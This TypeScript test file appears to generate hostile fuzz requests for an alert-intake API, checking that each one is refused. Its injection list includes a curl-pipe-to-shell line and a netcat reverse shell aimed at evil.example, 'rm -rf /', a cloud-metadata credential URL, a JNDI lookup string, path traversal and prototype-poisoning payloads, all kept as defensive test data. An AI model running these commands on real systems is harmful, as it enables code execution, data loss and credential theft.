import { createHmac } from 'node:crypto';
import { signedHeaders } from '../../src/intake/auth.js';

// Hostile input for the intake: a seeded generator (a failure names its seed and case, so it
// reproduces) of requests that must each be refused with a 4xx and a JSON error, and the
// strings attackers put in labels. Every generated request is invalid by construction.

/** Label values that look like shell, paths, URLs, templates or object keys. */
export const INJECTION_STRINGS: readonly string[] = [
  '$(rm -rf /)',
  '`reboot`',
  '; curl http://evil.example/x | sh',
  '&& shutdown -h now',
  '| nc evil.example 4444 -e /bin/sh',
  '../../etc/passwd',
  '..\\..\\windows\\system32\\config\\sam',
  '/etc/shadow',
  'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:6379/_FLUSHALL',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'nul\u0000byte',
  'line\r\nX-Injected: 1',
  '<script>alert(1)</script>',
  "' OR '1'='1' --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'toString',
  '--help',
  '-rf',
  'a'.repeat(20_000),
  '\u202egnp.exe',
  '😈💥',
];

/** Label values that are also names of Object.prototype members: a lookup must use own properties. */
export const PROTOTYPE_MEMBER_NAMES: readonly string[] = ['__proto__', 'constructor', 'toString'];

/** mulberry32: a small seeded PRNG, so a run is reproducible from its seed. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type Endpoint = '/v1/signals/alertmanager' | '/v1/signals/grafana' | '/v1/signals';
export const ENDPOINTS: readonly Endpoint[] = ['/v1/signals/alertmanager', '/v1/signals/grafana', '/v1/signals'];

export interface HostileRequest {
  /** What this case is, for a failure message. */
  what: string;
  method: 'POST' | 'GET' | 'PUT';
  path: string;
  body: string | Buffer | undefined;
  headers: Record<string, string>;
  /** The `error` the intake must answer with. */
  expect: 'invalid-json' | 'invalid-payload' | 'unauthorized' | 'payload-too-large' | 'unsupported-media-type' | 'not-found';
  /** Fingerprints this body names: no incident may exist for them afterwards. */
  fingerprints: string[];
}

export interface HostileContext {
  token: string;
  hmacSecret: string;
  bodyLimit: number;
  /** Prefix of every fingerprint a case names (unique to the run). */
  marker: string;
}

type Json = Record<string, unknown>;

const ALERT_TIME = '2026-01-01T00:00:00Z';

function alert(fp: string, labels: Record<string, string> = {}): Json {
  return { status: 'firing', labels: { alertname: 'FuzzAlert', service: 'fuzz', instance: fp, ...labels }, annotations: { summary: 'fuzz' }, startsAt: ALERT_TIME, fingerprint: fp };
}

/** A valid body for each endpoint: the cases below break it in exactly one way. */
function validBody(endpoint: Endpoint, fp: string): Json {
  switch (endpoint) {
    case '/v1/signals/alertmanager':
      return { version: '4', groupKey: '{}:{alertname="FuzzAlert"}', status: 'firing', receiver: 'medic', groupLabels: {}, commonLabels: {}, commonAnnotations: {}, externalURL: '', alerts: [alert(fp)] };
    case '/v1/signals/grafana':
      return { receiver: 'medic', status: 'firing', orgId: 1, alerts: [{ ...alert(fp), values: { A: 1 } }], groupLabels: {}, commonLabels: {}, commonAnnotations: {}, externalURL: '', version: '1', groupKey: 'g' };
    case '/v1/signals':
      return { alertname: 'FuzzAlert', service: 'fuzz', fingerprint: fp, labels: { instance: fp } };
  }
}

/** Paths whose value the schema checks, and values of the wrong type or shape for each. */
const WRONG: Record<Endpoint, [string, unknown[]][]> = {
  '/v1/signals/alertmanager': [
    ['version', ['3', 4, '４', null, ['4']]],
    ['status', ['flapping', 'fіring', 1, null]],
    ['receiver', [1, null, {}]],
    ['groupKey', [[], 7]],
    ['truncatedAlerts', [-1, 1.5, '3']],
    ['alerts', [[], {}, 'all', null]],
    ['alerts.0.status', ['FIRING', true]],
    ['alerts.0.labels', ['alertname=x', [], null]],
    ['alerts.0.labels.instance', [1, null, ['a'], { nested: 'x' }]],
    ['alerts.0.annotations', [null, 'text']],
    ['alerts.0.startsAt', ['yesterday', '2026-13-01T00:00:00Z', 0, '']],
    ['alerts.0.endsAt', ['soon', 1]],
    ['alerts.0.fingerprint', ['../../etc/passwd', '$(rm -rf /)', 'fïngerprint', 'a b', '', 'x'.repeat(129), 12]],
  ],
  '/v1/signals/grafana': [
    ['receiver', [null, 5]],
    ['status', ['alerting', 0]],
    ['orgId', [1.5, 'one']],
    ['alerts', [[], 'x']],
    ['alerts.0.values', [{ A: 'one' }, 'A=1']],
    ['alerts.0.labels.instance', [false, 3]],
    ['alerts.0.startsAt', ['now', null]],
    ['alerts.0.fingerprint', ['; curl evil', 'http://169.254.169.254/', '☃']],
  ],
  '/v1/signals': [
    ['alertname', ['', 1, null, 'x'.repeat(301)]],
    ['service', ['', [], 'y'.repeat(301)]],
    ['severity', ['', 's'.repeat(61), 3]],
    ['status', ['open', 1]],
    ['source', ['evil', '']],
    ['id', ['', 'i'.repeat(301), 42]],
    ['fingerprint', ['$(reboot)', '../x', 'ü', '']],
    ['labels', ['a=b', []]],
    ['labels.instance', [7, null, { a: 1 }]],
    ['startsAt', ['tomorrow', 5]],
    ['serivce', ['misspelt field is refused, not ignored']],
    ['__extra', [{ $where: 'sleep(1000)' }]],
  ],
};

const REQUIRED: Record<Endpoint, string[]> = {
  '/v1/signals/alertmanager': ['version', 'groupKey', 'status', 'receiver', 'alerts', 'alerts.0.status', 'alerts.0.labels', 'alerts.0.startsAt'],
  '/v1/signals/grafana': ['receiver', 'status', 'alerts', 'alerts.0.status', 'alerts.0.labels', 'alerts.0.startsAt'],
  '/v1/signals': ['alertname', 'service'],
};

function setPath(body: Json, path: string, value: unknown, remove = false): void {
  const keys = path.split('.');
  let node: Record<string, unknown> = body;
  for (const k of keys.slice(0, -1)) node = node[k] as Record<string, unknown>;
  const last = keys[keys.length - 1] as string;
  if (remove) delete node[last];
  else node[last] = value;
}

export class HostileGenerator {
  private readonly random: () => number;
  private n = 0;

  constructor(
    readonly seed: number,
    private readonly ctx: HostileContext,
  ) {
    this.random = prng(seed);
  }

  private pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.random() * items.length)] as T;
  }

  private int(min: number, max: number): number {
    return min + Math.floor(this.random() * (max - min + 1));
  }

  /** Headers that pass authentication for this endpoint and body (so the body itself is judged). */
  private auth(endpoint: Endpoint, body: string | Buffer | undefined): Record<string, string> {
    if (endpoint !== '/v1/signals') return { authorization: `Bearer ${this.ctx.token}` };
    return signedHeaders(this.ctx.hmacSecret, body ?? '');
  }

  private request(what: string, endpoint: Endpoint, body: string | Buffer | undefined, expect: HostileRequest['expect'], fingerprints: string[], headers: Record<string, string> = {}): HostileRequest {
    return { what, method: 'POST', path: endpoint, body, headers: { 'content-type': 'application/json', ...this.auth(endpoint, body), ...headers }, expect, fingerprints };
  }

  /** The next hostile request; cycles through every kind, choosing details at random. */
  next(): HostileRequest {
    const i = this.n++;
    const endpoint = ENDPOINTS[i % ENDPOINTS.length] as Endpoint;
    const fp = `${this.ctx.marker}-${i}`;
    const kinds = [
      () => this.wrongType(endpoint, fp),
      () => this.wrongType(endpoint, fp),
      () => this.missingField(endpoint, fp),
      () => this.malformedJson(endpoint, fp),
      () => this.notAnObject(endpoint, fp),
      () => this.deepNesting(endpoint, fp),
      () => this.huge(endpoint, fp),
      () => this.injectionWithBadField(endpoint, fp),
      () => this.prototypePoisoning(endpoint, fp),
      () => this.wrongMediaType(endpoint, fp),
      () => this.badAuth(endpoint, fp),
      () => this.strangePath(fp),
    ];
    return (kinds[Math.floor(i / ENDPOINTS.length) % kinds.length] as () => HostileRequest)();
  }

  private wrongType(endpoint: Endpoint, fp: string): HostileRequest {
    const body = validBody(endpoint, fp);
    const [path, values] = this.pick(WRONG[endpoint]);
    const value = this.pick(values);
    setPath(body, path, value);
    return this.request(`${path} = ${JSON.stringify(value)?.slice(0, 60)}`, endpoint, JSON.stringify(body), 'invalid-payload', [fp]);
  }

  private missingField(endpoint: Endpoint, fp: string): HostileRequest {
    const body = validBody(endpoint, fp);
    const path = this.pick(REQUIRED[endpoint]);
    setPath(body, path, undefined, true);
    return this.request(`without ${path}`, endpoint, JSON.stringify(body), 'invalid-payload', [fp]);
  }

  private malformedJson(endpoint: Endpoint, fp: string): HostileRequest {
    const text = JSON.stringify(validBody(endpoint, fp));
    const damage = [
      () => text.slice(0, this.int(1, text.length - 1)),
      () => `${text}}`,
      () => text.replace(/"/g, "'"),
      () => `${text.slice(0, -1)},}`,
      () => text.replace(':', ': NaN, "x":'),
      () => `/* comment */${text}`,
      () => '',
    ];
    for (;;) {
      const broken = this.pick(damage)();
      if (broken === '') return this.request('an empty body', endpoint, '', 'invalid-json', [fp]);
      try {
        JSON.parse(broken);
      } catch {
        return this.request(`malformed JSON (${broken.length} bytes)`, endpoint, broken, 'invalid-json', [fp]);
      }
    }
  }

  private notAnObject(endpoint: Endpoint, fp: string): HostileRequest {
    const value = this.pick(['"string"', '42', 'null', 'true', '[]', `[${JSON.stringify(validBody(endpoint, fp))}]`, '"\\ud800"']);
    return this.request(`a JSON ${value.slice(0, 20)} instead of an object`, endpoint, value, 'invalid-payload', [fp]);
  }

  private deepNesting(endpoint: Endpoint, fp: string): HostileRequest {
    const depth = this.int(1_000, Math.floor((this.ctx.bodyLimit - 2_000) / 2));
    if (this.random() < 0.5) return this.request(`arrays nested ${depth} deep`, endpoint, `${'['.repeat(depth)}${']'.repeat(depth)}`, 'invalid-payload', []);
    const body = validBody(endpoint, fp);
    const deep = `${'{"a":'.repeat(depth / 5)}1${'}'.repeat(depth / 5)}`;
    const text = JSON.stringify(body).replace('"fuzz"', deep);
    return this.request(`an object nested ${depth / 5} deep in a label`, endpoint, text, 'invalid-payload', [fp]);
  }

  private huge(endpoint: Endpoint, fp: string): HostileRequest {
    const body = validBody(endpoint, fp);
    const size = this.int(this.ctx.bodyLimit + 1, this.ctx.bodyLimit * 4);
    setPath(body, endpoint === '/v1/signals' ? 'labels.padding' : 'alerts.0.labels.padding', 'x'.repeat(size));
    return this.request(`a ${size}-byte label`, endpoint, JSON.stringify(body), 'payload-too-large', [fp]);
  }

  private injectionWithBadField(endpoint: Endpoint, fp: string): HostileRequest {
    // Injection strings in every label, and one field broken so the body must be refused whole.
    const labels = Object.fromEntries(INJECTION_STRINGS.slice(0, 12).map((s, k) => [`l${k}`, s]));
    const body = validBody(endpoint, fp);
    setPath(body, endpoint === '/v1/signals' ? 'labels' : 'alerts.0.labels', { alertname: 'FuzzAlert', service: 'fuzz', instance: fp, ...labels });
    const bad = this.pick(INJECTION_STRINGS.filter((s) => !/^[A-Za-z0-9._:-]+$/.test(s)));
    setPath(body, endpoint === '/v1/signals' ? 'fingerprint' : 'alerts.0.fingerprint', bad);
    return this.request(`injection strings in labels, fingerprint ${JSON.stringify(bad).slice(0, 40)}`, endpoint, JSON.stringify(body), 'invalid-payload', [fp]);
  }

  private prototypePoisoning(endpoint: Endpoint, fp: string): HostileRequest {
    const text = JSON.stringify(validBody(endpoint, fp));
    const poison = this.pick(['"__proto__":{"isAdmin":true}', '"constructor":{"prototype":{"isAdmin":true}}']);
    return this.request(`prototype poisoning ${poison.slice(0, 20)}`, endpoint, `{${poison},${text.slice(1)}`, 'invalid-json', [fp]);
  }

  private wrongMediaType(endpoint: Endpoint, fp: string): HostileRequest {
    const text = JSON.stringify(validBody(endpoint, fp));
    const type = this.pick(['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', '']);
    const req = this.request(`Content-Type "${type}"`, endpoint, text, 'unsupported-media-type', [fp]);
    if (type === '') delete req.headers['content-type'];
    else req.headers['content-type'] = type;
    return req;
  }

  private badAuth(endpoint: Endpoint, fp: string): HostileRequest {
    const text = JSON.stringify(validBody(endpoint, fp));
    const req = this.request('bad credentials', endpoint, text, 'unauthorized', [fp]);
    if (endpoint === '/v1/signals') {
      const choice = this.pick(['none', 'wrong', 'other-body', 'sha1', 'bearer-only']);
      delete req.headers['x-medic-signature'];
      if (choice === 'wrong') req.headers['x-medic-signature'] = `sha256=${'0'.repeat(64)}`;
      if (choice === 'other-body') req.headers['x-medic-signature'] = `sha256=${createHmac('sha256', this.ctx.hmacSecret).update(`${text} `).digest('hex')}`;
      if (choice === 'sha1') req.headers['x-medic-signature'] = `sha1=${createHmac('sha1', this.ctx.hmacSecret).update(text).digest('hex')}`;
      if (choice === 'bearer-only') req.headers['authorization'] = `Bearer ${this.ctx.token}`;
      req.what = `signature: ${choice}`;
    } else {
      const choice = this.pick(['', `Bearer ${this.ctx.token}x`, `Basic ${Buffer.from(`medic:${this.ctx.token}`).toString('base64')}`, 'Bearer', `Bearer ${this.ctx.token} extra`]);
      if (choice === '') delete req.headers['authorization'];
      else req.headers['authorization'] = choice;
      req.what = `Authorization: ${choice.replace(this.ctx.token, '<token>') || '(none)'}`;
    }
    return req;
  }

  private strangePath(fp: string): HostileRequest {
    const path = this.pick(['/v1/signals/../../admin', '/v1/signals/alertmanager/extra', '/v2/signals', '/v1/signals%00', '/.env', '/v1/signals/prometheus']);
    const req = this.request(`POST ${path}`, '/v1/signals/alertmanager', JSON.stringify(validBody('/v1/signals/alertmanager', fp)), 'not-found', [fp]);
    req.path = path;
    if (this.random() < 0.3) {
      req.method = 'PUT';
      req.path = '/v1/signals';
      req.what = 'PUT /v1/signals';
    }
    return req;
  }
}
